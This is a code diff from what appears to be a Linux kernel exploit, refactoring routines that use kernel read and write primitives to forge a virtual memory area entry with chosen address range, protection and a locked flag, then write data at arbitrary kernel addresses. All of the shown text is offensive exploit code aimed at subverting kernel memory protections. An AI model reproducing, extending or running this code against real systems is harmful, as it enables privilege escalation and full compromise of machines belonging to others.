@@ -10,6 +10,7 @@
 #include <sys/wait.h>
 #include <unistd.h>
 
+#include "addresses.h"
 #include "attack.h"
 #include "filter.h"
 #include "list.h"
@@ -70,8 +71,7 @@ static uint64_t find_entry(uint64_t node, uint64_t addr)
 	return (node & -NODE_ALIGN) + (entries + i - 1) * sizeof(*words);
 }
 
-/* Where the tree has the mapping of a kernel address: none. */
-static uint64_t find_empty_entry(uint64_t mm, uint64_t addr)
+uint64_t find_empty_entry(uint64_t mm, uint64_t addr)
 {
 	uint64_t node = find_root(mm), entry;
 
@@ -84,23 +84,31 @@ static uint64_t find_empty_entry(uint64_t mm, uint64_t addr)
 	return 0;
 }
 
-/* Like one of ours, but for where it is, and what an entry there may do. */
-static uint64_t forge_vma(uint64_t addr, uint64_t protection)
+/* But for where it is, and what an entry there may do. */
+uint64_t forge_vma(const volatile void *like, uint64_t addr, uint64_t protection)
 {
-	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
-				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
-	uint64_t words[VMA_SIZE / sizeof(uint64_t)], vma;
+	uint64_t words[VMA_SIZE / sizeof(uint64_t)], vma = find_vma(like);
 	struct kernel_page forged;
 
-	page[0] = 1;
-	vma = find_vma(page);
 	if (!vma || kread(vma, words, sizeof(words)) || !kernel_page(&forged))
 		return 0;
 	words[0] = addr & -PAGE_SIZE;
 	words[1] = words[0] + PAGE_SIZE;
 	words[VMA_PROT / sizeof(*words)] = protection;
-	words[VMA_FLAGS / sizeof(*words)] |= VM_LOCKED;
 	return kwrite(forged.addr, words, sizeof(words)) ? 0 : forged.addr;
+}
+
+static uint64_t forge_locked_vma(uint64_t addr, uint64_t protection)
+{
+	volatile char *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
+				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	uint64_t vma;
+
+	page[0] = 1;
+	vma = forge_vma(page, addr, protection);
+	if (!vma || kwrite64(vma + VMA_FLAGS, kread64(vma + VMA_FLAGS) | VM_LOCKED))
+		return 0;
+	return vma;
 }
 
 /* By a process with our mappings that can be killed: ours are to be put back. */
@@ -132,7 +140,7 @@ static void keep_page(uint64_t page)
 static bool write_as_ours(uint64_t addr, void *data, size_t len, bool unmap,
 			  uint64_t protection)
 {
-	uint64_t vma = forge_vma(addr, protection), start = addr & -PAGE_SIZE, entry;
+	uint64_t vma = forge_locked_vma(addr, protection), start = addr & -PAGE_SIZE, entry;
 	char copy[PAGE_SIZE];
 	struct task task;
 
